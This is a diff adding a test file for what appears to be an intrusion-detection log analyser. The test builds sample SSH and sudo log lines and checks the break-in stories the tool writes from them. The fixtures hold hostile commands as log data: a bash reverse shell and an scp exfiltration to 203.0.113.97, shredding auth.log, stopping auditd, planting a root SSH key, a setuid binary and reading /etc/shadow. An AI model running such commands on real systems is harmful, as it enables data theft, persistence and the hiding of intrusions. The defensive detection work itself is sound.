@@ -1,0 +1,125 @@
+/** Logs in, the story out: what a whole run says of small cases of intruders and of administrators. */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { analyse } from '../../src/detect/analyse.ts';
+import type { Story } from '../../src/detect/story/story.ts';
+import { statementText } from '../../src/detect/story/tell.ts';
+
+async function storiesOf(name: string, lines: readonly string[]): Promise<readonly Story[]> {
+  const cwd = mkdtempSync(join(tmpdir(), 'ir-told-'));
+  try {
+    writeFileSync(join(cwd, name), `${lines.join('\n')}\n`);
+    const timeline = await analyse([name], {
+      ...{ cwd, zone: 'UTC', env: { XDG_CONFIG_HOME: join(cwd, 'none') }, level: 'medium' },
+      filter: {
+        ...{ sinceUs: Number.NEGATIVE_INFINITY, untilUs: Number.POSITIVE_INFINITY },
+        ...{ entities: [], grep: undefined },
+      },
+      ...{ ruleNames: [], ruleFolders: [], workers: 0 },
+      referenceMs: Date.UTC(2026, 11, 1),
+      stdin: (async function* nothing() {})(),
+    });
+    return timeline.stories;
+  } finally {
+    rmSync(cwd, { recursive: true, force: true });
+  }
+}
+
+const at = (minute: number, second = 1): string =>
+  `Nov 29 ${String(9 + Math.floor(minute / 60)).padStart(2, '0')}:${String(minute % 60).padStart(2, '0')}:${String(second).padStart(2, '0')} h`;
+const sudo = (minute: number, user: string, command: string): string =>
+  `${at(minute)} sudo: ${user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=${command}`;
+const ssh = (minute: number, second: number, text: string, ip: string): string =>
+  `${at(minute, second)} sshd[${700 + minute}]: ${text} from ${ip} port ${4000 + second} ssh2`;
+const guessed = (user: string, ip: string): string[] => [
+  ...Array.from({ length: 12 }, (_, n) => ssh(0, n + 1, `Failed password for ${user}`, ip)),
+  ssh(0, 20, `Accepted password for ${user}`, ip),
+];
+const rooted = (user: string): string[] => [
+  ...guessed(user, '203.0.113.98'),
+  sudo(1, user, '/usr/bin/scp /var/lib/dump.sql evil@203.0.113.97:/tmp/'),
+  sudo(2, user, '/usr/bin/shred -u /var/log/auth.log'),
+  sudo(3, user, '/usr/bin/systemctl stop auditd'),
+  sudo(4, user, '/usr/bin/tee -a /root/.ssh/authorized_keys'),
+  sudo(5, user, "/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.97/4444 0>&1'"),
+  sudo(6, user, '/usr/bin/chmod u+s /var/tmp/.x'),
+  sudo(7, user, '/usr/bin/cat /etc/shadow'),
+];
+const manyGuess = (last: string): string[] => [
+  ...Array.from({ length: 30 }, (_, n) =>
+    ssh(n, 7, 'Failed password for root', `198.51.100.${n + 1}`),
+  ),
+  last,
+];
+const admin = [
+  ssh(0, 1, 'Accepted publickey for alice', '192.168.1.5'),
+  sudo(2, 'alice', '/usr/sbin/useradd -m newhire'),
+  `${at(2)} useradd[900]: new user: name=newhire, UID=1005, GID=1005, home=/home/newhire, shell=/bin/bash, from=/dev/pts/1`,
+  sudo(3, 'alice', '/usr/sbin/usermod -aG sudo newhire'),
+  `${at(3)} usermod[901]: add 'newhire' to group 'sudo'`,
+  sudo(9, 'alice', '/usr/sbin/usermod -aG docker bob'),
+  `${at(9)} usermod[911]: add 'bob' to group 'docker'`,
+];
+
+type Row = [
+  name: string,
+  lines: readonly string[],
+  title: RegExp,
+  told: Record<string, RegExp | undefined>,
+];
+
+describe('the story of small logs', () => {
+  it.each<Row>([
+    ...['deploy', 'postgres'].map<Row>((user) => [
+      `each act of a session of ${user} under its chapter`,
+      rooted(user),
+      /^h was broken into$/,
+      {
+        In: new RegExp(`^SSH login: ${user}, 12 failures before`),
+        Ran: /to 203\.0\.113\.97:4444 \(/,
+        Stays: /SSH key: \/root\/\.ssh\/authorized_keys .*setuid program: \/var\/tmp\/\.x/,
+        Took: /^sent: \/var\/lib\/dump\.sql to 203\.0\.113\.97 \(/,
+        Hid: /^logs emptied: \/var\/log\/auth\.log .*protection switched off: .*systemctl stop auditd/,
+        Read: /^password hashes read: \/etc\/shadow \(/,
+        Rose:
+          user === 'deploy' ? undefined : /^Service account used sudo: postgres, 7 times \([^;]*$/,
+      },
+    ]),
+    [
+      'an account that many guessed, entered from outside',
+      manyGuess(ssh(40, 1, 'Accepted password for root', '203.0.113.9')),
+      /^h may have been broken into$/,
+      { Who: /^203\.0\.113\.9 /, In: /root, 30 failures before/ },
+    ],
+    [
+      'an administrator who makes accounts',
+      admin,
+      /^No break-in seen on h, but acts as of an intruder$/,
+      {
+        Who: /^alice \(logged in from 192\.168\.1\.5\)$/,
+        In: undefined,
+        Open: /^(?!.*no log of logins)/,
+      },
+    ],
+  ])('%s', async (_, lines, title, told) => {
+    const [story, ...rest] = await storiesOf('x.log', lines);
+    expect(rest).toEqual([]);
+    expect(story?.title).toMatch(title);
+    for (const [label, expected] of Object.entries(told)) {
+      const statement = story?.statements.find((one) => one.label === label);
+      const text = statement === undefined ? undefined : statementText(statement);
+      if (expected === undefined) expect([label, text]).toEqual([label, undefined]);
+      else expect(text, label).toMatch(expected);
+    }
+  });
+
+  it.each([
+    ['a key', ssh(40, 1, 'Accepted publickey for root', '203.0.113.9')],
+    ['an internal address', ssh(40, 1, 'Accepted password for root', '10.0.0.9')],
+    ['another account', ssh(40, 1, 'Accepted password for dora', '203.0.113.9')],
+  ])('is none of a login meanwhile with %s', async (_, login) => {
+    expect(await storiesOf('auth.log', manyGuess(login))).toEqual([]);
+  });
+});
